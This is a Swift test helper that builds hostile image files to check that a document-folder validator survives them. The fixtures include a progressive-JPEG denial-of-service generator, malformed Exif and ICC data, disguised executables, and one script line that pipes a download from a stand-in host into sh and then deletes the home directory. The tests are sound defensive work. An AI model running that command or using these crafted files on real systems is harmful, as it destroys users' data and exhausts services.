@testable import ExpedienteKit
import ExpedienteSamples
import Foundation
import Testing

/// Hostile files built in the test from real bytes: pages from our libjpeg encoder,
/// edited marker by marker where the encoder cannot produce the case.
enum HostileBytes {
    /// One marker segment of a well-formed JPEG header (before the entropy data of its scan).
    struct Segment {
        /// Offset of the 0xFF that starts the marker.
        var offset: Int
        var marker: UInt8
        /// Offset just after the segment; for SOS, just after its entropy-coded data.
        var end: Int
    }

    /// The marker segments of a well-formed file, SOI to EOI.
    static func segments(_ bytes: [UInt8]) -> [Segment] {
        var result: [Segment] = [Segment(offset: 0, marker: 0xD8, end: 2)]
        var i = 2
        while i + 1 < bytes.count, bytes[i] == 0xFF {
            let marker = bytes[i + 1]
            if marker == 0xD9 {
                result.append(Segment(offset: i, marker: marker, end: i + 2))
                break
            }
            var end = i + 2 + (Int(bytes[i + 2]) << 8 | Int(bytes[i + 3]))
            if marker == 0xDA {
                // Entropy data runs to the next marker that is not a stuffed zero or a restart.
                while end + 1 < bytes.count, !(bytes[end] == 0xFF && bytes[end + 1] != 0 && !(0xD0...0xD7).contains(bytes[end + 1])) {
                    end += 1
                }
            }
            result.append(Segment(offset: i, marker: marker, end: end))
            i = end
        }
        return result
    }

    static func first(_ marker: UInt8, in bytes: [UInt8]) -> Segment? {
        segments(bytes).first { $0.marker == marker }
    }

    /// The first start-of-frame segment.
    static func frame(in bytes: [UInt8]) -> Segment? {
        segments(bytes).first { (0xC0...0xCF).contains($0.marker) && ![0xC4, 0xC8, 0xCC].contains($0.marker) }
    }

    /// `bytes` without every segment with this marker.
    static func removing(_ marker: UInt8, from bytes: [UInt8]) -> [UInt8] {
        var out = bytes
        for segment in segments(bytes).reversed() where segment.marker == marker {
            out.removeSubrange(segment.offset..<segment.end)
        }
        return out
    }

    /// A small real JPEG (gray, 300 ppp declared), for headers that lie about the rest.
    static func tiny(width: Int = 16, height: Int = 16) throws -> [UInt8] {
        try JPEGCodec.encode(RasterImage(GrayImage(width: width, height: height, fill: 200)), quality: 80,
                             density: PixelDensity(unit: .perInch, x: 300, y: 300))
    }

    /// A real JPEG whose SOF says `width` × `height`, with the tiny scan of a 16 × 16 image.
    static func claimingSize(width: Int, height: Int) throws -> [UInt8] {
        var bytes = try tiny()
        let sof = try #require(frame(in: bytes))
        // SOF: FF Cn, length(2), precision(1), height(2), width(2)
        bytes.replaceSubrange((sof.offset + 5)...(sof.offset + 8),
                              with: [UInt8(height >> 8), UInt8(height & 0xFF), UInt8(width >> 8), UInt8(width & 0xFF)])
        return bytes
    }

    /// The valid page with its start-of-frame changed to another process and precision.
    static func page(sof marker: UInt8, precision: UInt8 = 8) throws -> [UInt8] {
        var bytes = TestPages.validLetter
        let sof = try #require(frame(in: bytes))
        bytes[sof.offset + 1] = marker
        bytes[sof.offset + 4] = precision
        return bytes
    }

    /// A real progressive page followed by crafted scans until it has `scans` of them: the
    /// progressive-scan denial of service. Each added scan is a valid AC scan of the whole page
    /// that changes nothing (only end-of-band runs, 28 bytes), yet libjpeg must visit every
    /// block of the page for it.
    static func progressive(scans: Int, page: [UInt8]) throws -> [UInt8] {
        let list = segments(page)
        let sof = try #require(frame(in: page))
        #expect(page[sof.offset + 1] == 0xC2 && page[sof.offset + 9] == 1, "a progressive gray page")
        let height = Int(page[sof.offset + 5]) << 8 | Int(page[sof.offset + 6])
        let width = Int(page[sof.offset + 7]) << 8 | Int(page[sof.offset + 8])
        let component = page[sof.offset + 10]
        let blocks = ((width + 7) / 8) * ((height + 7) / 8)

        // AC table 0 with a single one-bit code, "0", for EOB14 (a run of 2^14 + 14 extra bits).
        let dht: [UInt8] = [0xFF, 0xC4, 0x00, 0x14, 0x10, 1] + [UInt8](repeating: 0, count: 15) + [0xE0]
        // One component, AC table 0, spectral band 1...63, first pass at full precision.
        let sos: [UInt8] = [0xFF, 0xDA, 0x00, 0x08, 0x01, component, 0x00, 0x01, 0x3F, 0x00]
        var bits: [Bool] = []
        for _ in 0..<((blocks + 32_766) / 32_767) {
            bits.append(false)                                           // EOB14
            bits += (0..<14).map { (32_767 - 16_384) >> (13 - $0) & 1 == 1 } // run of 32 767 blocks
        }
        while bits.count % 8 != 0 { bits.append(true) }
        var data: [UInt8] = []
        for byte in stride(from: 0, to: bits.count, by: 8) {
            let value = bits[byte..<(byte + 8)].reduce(UInt8(0)) { $0 << 1 | ($1 ? 1 : 0) }
            data.append(value)
            if value == 0xFF { data.append(0x00) } // byte stuffing
        }
        let existing = list.filter { $0.marker == 0xDA }.count
        let eoi = try #require(list.last { $0.marker == 0xD9 })
        var out = Array(page[..<eoi.offset]) + dht
        for _ in 0..<max(0, scans - existing) { out += sos + data }
        return out + [0xFF, 0xD9]
    }

    /// A CMYK page whose Adobe marker says transform 2: libjpeg reads it as YCCK.
    static func ycck() throws -> [UInt8] {
        var bytes = try TestPages.letter(cmyk: true)
        let adobe = try #require(segments(bytes).first { $0.marker == 0xEE && Array(bytes[($0.offset + 4)..<($0.offset + 9)]) == Array("Adobe".utf8) })
        // APP14 "Adobe": version(2) flags0(2) flags1(2) transform(1) after the 5-byte tag.
        bytes[adobe.offset + 4 + 11] = 2
        return bytes
    }

    /// Entropy data overwritten in the middle with random bytes that contain no marker (no 0xFF).
    static func corruptEntropy(_ page: [UInt8], count: Int = 512, seed: UInt64 = 7) throws -> [UInt8] {
        let sos = try #require(first(0xDA, in: page))
        var bytes = page
        let middle = (sos.offset + sos.end) / 2
        var random = ImagingRandom(state: seed)
        for i in middle..<(middle + count) { bytes[i] = UInt8(truncatingIfNeeded: random.next() % 0xFF) }
        return bytes
    }

    /// Exif APP1 payload of `size` bytes whose IFD is hostile: a count of 65 535 entries,
    /// a next-IFD offset that points to itself, and an XResolution of 300/0.
    static func hostileExif(size: Int) -> [UInt8] {
        var tiff: [UInt8] = Array("MM".utf8) + [0x00, 0x2A, 0x00, 0x00, 0x00, 0x08]
        tiff += [0xFF, 0xFF] // entry count far beyond the segment
        // XResolution (0x011A), RATIONAL, 1, offset 8 (the IFD itself: 0xFFFF/...)
        tiff += [0x01, 0x1A, 0x00, 0x05, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x1C]
        // ResolutionUnit (0x0128), SHORT, 1, inch
        tiff += [0x01, 0x28, 0x00, 0x03, 0x00, 0x00, 0x00, 0x01, 0x00, 0x02, 0x00, 0x00]
        tiff += [0x00, 0x00, 0x01, 0x2C, 0x00, 0x00, 0x00, 0x00] // 300 / 0 at offset 0x1C
        tiff += [0x00, 0x00, 0x00, 0x08] // next IFD: itself
        let prefix = Array("Exif".utf8) + [0, 0]
        return prefix + tiff + [UInt8](repeating: 0xA5, count: max(0, size - prefix.count - tiff.count))
    }

    /// An ICC profile split into APP2 "ICC_PROFILE" chunks as the ICC spec says, `chunks` of them, each full.
    static func iccMarkers(chunks: Int) -> [(code: UInt8, payload: [UInt8])] {
        let tag = Array("ICC_PROFILE".utf8) + [0]
        return (1...chunks).map { n in
            (code: 0xE2, payload: tag + [UInt8(n), UInt8(chunks)] + [UInt8](repeating: UInt8(n & 0x7F), count: 65_533 - tag.count - 2))
        }
    }

    // MARK: Other formats named .JPG

    /// A lossy WebP: RIFF header, `VP8 ` chunk with a key-frame header for 16 × 16 pixels.
    static func webp() -> [UInt8] {
        let frame: [UInt8] = [0x30, 0x01, 0x00, 0x9D, 0x01, 0x2A, 0x10, 0x00, 0x10, 0x00] + [UInt8](repeating: 0, count: 22)
        let chunk = Array("VP8 ".utf8) + le32(UInt32(frame.count)) + frame
        let body = Array("WEBP".utf8) + chunk
        return Array("RIFF".utf8) + le32(UInt32(body.count)) + body
    }

    /// A little-endian baseline TIFF: 8 × 8 gray, uncompressed.
    static func tiff() -> [UInt8] {
        let width: UInt32 = 8, height: UInt32 = 8
        let entries: [(UInt16, UInt16, UInt32)] = [
            (256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 1), (262, 3, 1),
            (273, 4, 8 + 2 + 10 * 12 + 4), (277, 3, 1), (278, 4, height), (279, 4, width * height), (284, 3, 1),
        ]
        var out: [UInt8] = Array("II".utf8) + [0x2A, 0x00] + le32(8)
        out += le16(UInt16(entries.count))
        for (tag, type, value) in entries {
            out += le16(tag) + le16(type) + le32(1) + (type == 3 ? le16(UInt16(value)) + [0, 0] : le32(value))
        }
        out += le32(0)
        return out + [UInt8](repeating: 0x80, count: Int(width * height))
    }

    /// A 64-bit little-endian ELF executable header (x86-64, ET_EXEC) with one PT_LOAD program header.
    static func elf() -> [UInt8] {
        var out: [UInt8] = [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0] + [UInt8](repeating: 0, count: 8)
        out += le16(2) + le16(0x3E) + le32(1) // e_type EXEC, e_machine x86-64, e_version
        out += le64(0x400078) + le64(64) + le64(0) // entry, phoff, shoff
        out += le32(0) + le16(64) + le16(56) + le16(1) + le16(64) + le16(0) + le16(0)
        out += le32(1) + le32(5) + le64(0) + le64(0x400000) + le64(0x400000) + le64(0x80) + le64(0x80) + le64(0x1000)
        return out + [0xB8, 0x3C, 0, 0, 0, 0x31, 0xFF, 0x0F, 0x05] // mov eax,60; xor edi,edi; syscall
    }

    static let script: [UInt8] = Array("#!/bin/sh\n# se ejecuta al abrir\ncurl -s http://ejemplo.invalid/x | sh\nrm -rf \"$HOME\"\n".utf8)

    static func le16(_ v: UInt16) -> [UInt8] { [UInt8(v & 0xFF), UInt8(v >> 8)] }
    static func le32(_ v: UInt32) -> [UInt8] { (0..<4).map { UInt8(truncatingIfNeeded: v >> (8 * $0)) } }
    static func le64(_ v: UInt64) -> [UInt8] { (0..<8).map { UInt8(truncatingIfNeeded: v >> (8 * $0)) } }
}

/// Assertions on the report of a whole folder in which one file is hostile.
enum HostileReport {
    /// Avisos a valid folder already has: título and cédula without QR.
    static let knownAvisos: Set<String> = ["TITULO1:qr.missing", "CEDULA:qr.missing"]

    /// The hostile file got exactly `checks`. The hostile file is checked alone (see
    /// `HostileContentTests.aHostileFileLeavesTheRestOfTheFolderChecked` for a whole folder).
    static func expect(_ report: ExpedienteReport, file: String = "CURP.JPG", checks: [CheckID],
                       sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(report.checks(for: file) == checks, "\(report.observations.filter { $0.file == file }.map(\.message))",
                sourceLocation: sourceLocation)
        #expect(report.documents.contains { $0.file == file }, "the file is still a document of the report", sourceLocation: sourceLocation)
    }

    /// Every other document of a valid folder was checked and got nothing but the known avisos.
    static func expectOthersUntouched(_ report: ExpedienteReport, except file: String,
                                      sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(report.documents.count == 12, sourceLocation: sourceLocation)
        #expect(Set(report.documents.map(\.kind)) == Set(TestPages.requiredKinds), sourceLocation: sourceLocation)
        let others = report.observations.filter { $0.file != file }
        let unexpected = others.filter { !knownAvisos.contains("\($0.document ?? ""):\($0.check)") }
        #expect(unexpected.isEmpty, "\(unexpected.map { "\($0.file ?? "-"): \($0.check) \($0.message)" })",
                sourceLocation: sourceLocation)
    }

    static func message(_ report: ExpedienteReport, _ check: CheckID, file: String = "CURP.JPG") -> String {
        report.observations.first { $0.file == file && $0.checkID == check }?.message ?? ""
    }
}
